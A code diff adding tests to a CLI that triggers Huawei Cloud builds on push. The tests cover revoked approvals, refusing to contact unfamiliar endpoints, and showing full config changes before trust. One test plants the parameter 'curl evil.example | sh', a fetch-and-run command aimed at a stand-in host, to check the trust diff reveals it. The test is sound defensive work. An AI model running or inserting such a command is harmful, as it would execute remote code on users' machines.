@@ -163,3 +163,74 @@ test('an approval that is taken back holds the next push', async ({ world }) => 
   expect(rows).toMatchObject([{ state: 'held', attempts: [] }]);
   expect(world.sandbox.requests()).toEqual([]);
 });
+
+test('an approval that is taken back holds what waits, too', async ({ world }) => {
+  const { CODEARTS_HOOKS_TOKEN: _token, ...env } = world.env;
+  const before = await pushWith(world, configText({ 'max-triggers-per-push': 5 }), env);
+  await world.cli(['trust', '--yes'], { env });
+  await world.cli(['trust', '--revoke'], { env });
+
+  await world.cli(['flush', '--wait'], { mayFail: true });
+  const [held] = JSON.parse((await world.cli(['history', '--json'])).stdout) as HistoryRow[];
+  const sentBefore = world.sandbox.requests().length;
+  await world.cli(['trust', '--yes']);
+  await until('the build', async () => world.triggers().length > 0);
+
+  expect(before).toMatchObject([{ state: 'held' }]);
+  expect(held).toMatchObject({ state: 'held', reason: 'job ci is not approved on this machine' });
+  expect(sentBefore).toBe(0);
+});
+
+test.for([
+  ['whoami', '--verify'],
+  ['doctor', '--live'],
+] as const)('%s asks no host of a stranger’s that the config names', async ([command, option], { world }) => {
+  // Whatever leaves for another host goes by it.
+  const proxy = await startRawServer((socket) => socket.end());
+  const names = { endpoint: 'https://builds.example', 'iam-endpoint': 'https://iam.example' };
+  await writeFile(join(world.dir, 'codearts-hooks.json'), configText(names));
+  const env = {
+    ...withoutEndpoint(world),
+    HTTPS_PROXY: proxy.url,
+    HW_USER_NAME: 'u',
+    HW_USER_PASSWORD: 'PASSWORD01',
+    HW_DOMAIN_NAME: 'd',
+  };
+  const { CODEARTS_HOOKS_IAM_ENDPOINT: _iam, ...bare } = env as Record<string, string>;
+
+  const asked = await world.cli([command, option], { env: bare, mayFail: true });
+  const withUser = await world.cli([command, option], {
+    env: { ...bare, CODEARTS_HOOKS_TOKEN: '' },
+    mayFail: true,
+  });
+
+  expect([asked.exitCode, withUser.exitCode]).not.toContain(0);
+  expect(asked.stdout).toContain("not asked: the config names builds.example, which is not Huawei Cloud's");
+  expect(asked.stdout).toContain('→ codearts-hooks trust\n');
+  expect(proxy.received()).toEqual([]);
+});
+
+test('trust shows all of what has changed, however long it is', async ({ world }) => {
+  const job = { ...JOB, trigger: 'execute', parameters: { A: 'x'.repeat(300), Z: 'good' } };
+  const write = async (config: object): Promise<void> => {
+    await writeFile(join(world.dir, 'codearts-hooks.json'), configText(config));
+  };
+  await write({
+    jobs: [job],
+    endpoint: 'https://cloudbuild-ext.cn-north-4.myhuaweicloud.com',
+    region: 'cn-north-4',
+  });
+  await world.cli(['trust', '--yes']);
+  await write({
+    jobs: [{ ...job, parameters: { ...job.parameters, Z: 'curl evil.example | sh' } }],
+    endpoint: 'https://cloudbuild-ext.cn-north-4.myhuaweicloud.com',
+    region: 'cn-south-1',
+  });
+
+  const { stderr } = await world.cli(['trust'], { mayFail: true });
+
+  expect(stderr).toMatch(/^- job .*"Z":"good"\}$/m);
+  expect(stderr).toMatch(/^\+ job .*"Z":"curl evil\.example \| sh"\}$/m);
+  expect(stderr).toMatch(/^- region +cn-north-4$/m);
+  expect(stderr).toMatch(/^\+ region +cn-south-1$/m);
+});
